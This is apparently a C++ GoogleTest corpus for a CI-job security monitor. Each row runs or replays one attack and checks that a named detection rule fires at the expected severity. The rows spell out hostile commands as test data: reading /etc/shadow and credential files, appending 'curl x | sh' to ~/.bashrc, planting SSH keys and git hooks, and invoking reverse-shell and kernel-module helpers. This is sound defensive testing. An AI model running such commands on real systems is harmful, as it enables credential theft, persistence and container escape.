// The attack half of the scenario corpus (issue #22): each row does one classic thing a CI job
// should never do and names the rule that must report it, at which severity. Real runs stay on
// this machine (loopback, socketpairs, a temporary HOME, failing kernel calls, the risky and
// memfd_child_exec helpers in $H); what needs a remote or metadata peer is an strace log from
// tests/data/scenarios/ given to `capsule import`.
#include <gtest/gtest.h>
#include <unistd.h>

#include <algorithm>
#include <ostream>
#include <string>
#include <vector>

#include "ebpf_available.h"
#include "scenario_dir.h"

namespace capsule::test {
namespace {

struct Attack {
  const char* name;
  const char* setup;   // untraced, in the job's directory (HOME); "" for none
  const char* job;     // traced shell script, or the strace log to import (ends in .strace)
  const char* rule;
  const char* severity;
  bool needs_root = false;
};

// A listener and a client in one python3: `SEND(expr)` sends expr's bytes to it over loopback.
#define SEND(data)                                                                                  \
  "/usr/bin/python3 -c 'import socket\ns = socket.socket(); s.bind((\"127.0.0.1\", 0)); s.listen(1)\n"      \
  "c = socket.create_connection(s.getsockname()); c.sendall(" data ")'"

const Attack kAttacks[] = {
    // secrets
    {"shadow_read", "", "cat /etc/shadow > /dev/null", "shadow-read", "high"},
    {"shadow_padded_path", "", "cat /tmp/../../etc//./shadow > /dev/null", "shadow-read", "high"},
    {"shadow_through_symlink", "ln -s /etc/shadow s", "cat s > /dev/null", "shadow-read", "high"},
    {"aws_credentials_read", "mkdir .aws && echo '[default]' > .aws/credentials", "cat ~/.aws/credentials > /dev/null",
     "credential-read", "medium"},
    {"ssh_key_read", "mkdir .ssh && echo k > .ssh/id_ed25519", "cp ~/.ssh/id_ed25519 k", "credential-read", "medium"},
    {"credentials_to_loopback_proxy", "mkdir .aws && echo '[default]' > .aws/credentials",
     SEND("open(\"/\".join([__import__(\"os\").environ[\"HOME\"], \".aws/credentials\"]), \"rb\").read()"),
     "exfiltration-local", "high"},
    {"credentials_to_remote", "", "exfiltration_remote.strace", "exfiltration", "critical"},
    // download and run
    {"curl_piped_to_sh", "", "curl_pipe_sh.strace", "download-piped-to-shell", "high"},
    {"curl_piped_to_python", "", "curl_pipe_python.strace", "download-piped-to-interpreter", "high"},
    {"wget_then_sh_file", "", "wget_then_sh.strace", "download-then-run-script", "medium"},
    {"curl_then_python_file", "", "curl_then_python_file.strace", "download-then-run-interpreter", "medium"},
    {"curl_chmod_exec", "", "curl_chmod_exec.strace", "download-chmod-exec", "medium"},
    {"exec_from_shared_dir", "mkdir -m 1777 shared", "cp /bin/true shared/t && shared/t", "exec-from-temp", "high"},
    {"memfd_exec", "", "$H/risky memfd-exec", "memfd-exec", "critical"},
    {"memfd_exec_by_child_fexecve", "", "$H/memfd_child_exec fexecve /bin/true", "memfd-exec", "critical"},
    {"memfd_exec_by_child_proc_fd", "", "$H/memfd_child_exec proc /bin/true", "memfd-exec", "critical"},
    {"reverse_shell", "", "$H/risky reverse-shell", "reverse-shell", "critical"},
    {"self_deleting_dropper", "cp $H/risky dropper", "./dropper self-delete", "self-delete", "high"},
    // persistence
    {"bashrc_append", "", "echo 'curl x | sh' >> ~/.bashrc", "persistence-write", "high"},
    {"profile_write", "", "echo 'export PATH=/tmp:$PATH' > ~/.profile", "persistence-write", "high"},
    {"systemd_user_unit", "", "mkdir -p ~/.config/systemd/user && echo '[Service]' > ~/.config/systemd/user/x.service",
     "persistence-write", "high"},
    {"authorized_keys_append", "mkdir .ssh", "echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys", "persistence-write",
     "high"},
    {"ld_preload_injection", "", "LD_PRELOAD=/nonexistent/hook.so /bin/true 2> /dev/null", "ld-preload-exec", "medium"},
    {"crontab_install", "", "crontab_spool.strace", "persistence-write", "high"},
    {"ld_so_preload", "", "ld_so_preload.strace", "persistence-write", "high"},
    {"git_hook_planted", "git init -q r", "printf '#!/bin/sh\\ncurl x | sh\\n' > r/.git/hooks/post-checkout",
     "git-hook-write", "medium"},
    // container escape and the kernel
    {"docker_socket", "",
     "/usr/bin/python3 -c 'import socket\ns = socket.socket(socket.AF_UNIX); s.bind(\"docker.sock\"); s.listen(1)\n"
     "socket.socket(socket.AF_UNIX).connect(\"docker.sock\")'",
     "container-runtime-socket", "high"},
    {"proc_1_root", "", "ls /proc/1/root/ > /dev/null 2>&1 || true", "proc-root-access", "high"},
    {"unshare_namespace", "", "$H/risky unshare || true", "namespace-change", "high"},
    {"kernel_module_load", "", "$H/risky module", "kernel-module", "critical"},
    {"bpf_call", "", "$H/risky bpf", "bpf", "high"},
    {"kernel_setting_write", "", "$H/risky kernel-setting", "kernel-settings-write", "high"},
    {"process_memory_write", "", "$H/risky vm-write", "process-tamper", "high"},
    {"privilege_regained", "", "$H/risky priv-regain", "privilege-gained", "high", true},
    // cloud metadata
    {"metadata_ipv4", "", "metadata_ipv4.strace", "cloud-metadata", "high"},
    {"metadata_ipv6", "", "metadata_ipv6.strace", "cloud-metadata", "high"},
    {"metadata_by_dns_name", "", "metadata_by_name.strace", "cloud-metadata-name", "high"},
};

bool is_import(const std::string& job) { return job.ends_with(".strace"); }

// gtest names a failing row by this rather than by its bytes.
void PrintTo(const Attack& row, std::ostream* os) { *os << row.name; }

class AttackScenario : public ::testing::TestWithParam<Attack> {};

// A real job runs on every backend that can trace here (the rules must not depend on which
// recorded it); an imported log once.
TEST_P(AttackScenario, GivesItsRuleAtItsSeverity) {
  const Attack& a = GetParam();
  if (a.needs_root && ::geteuid() != 0) GTEST_SKIP() << "needs root";
  const std::vector<std::string> backends = is_import(a.job) ? std::vector<std::string>{""} : tracing_backends();
  for (const std::string& backend : backends) {
    SCOPED_TRACE("backend " + (backend.empty() ? std::string("import") : backend));
    ScenarioDir dir;
    if (a.setup[0] != '\0') {
      const Outcome setup = dir.shell(a.setup);
      ASSERT_EQ(setup.exit_code, 0) << setup.out << setup.err;
    }
    const Outcome run = is_import(a.job) ? dir.import(a.job) : dir.traced(a.job, backend);
    ASSERT_NE(run.exit_code, 125) << run.err;  // capsule's own failure, not the job's
    const auto found = dir.findings();
    const auto it = std::find_if(found.begin(), found.end(), [&](const auto& f) { return f.rule == a.rule; });
    ASSERT_NE(it, found.end()) << a.rule << " not among:\n" << describe(found);
    EXPECT_EQ(it->severity, a.severity) << describe(found);
  }
}

INSTANTIATE_TEST_SUITE_P(Corpus, AttackScenario, ::testing::ValuesIn(kAttacks),
                         [](const auto& row) { return std::string(row.param.name); });

}  // namespace
}  // namespace capsule::test
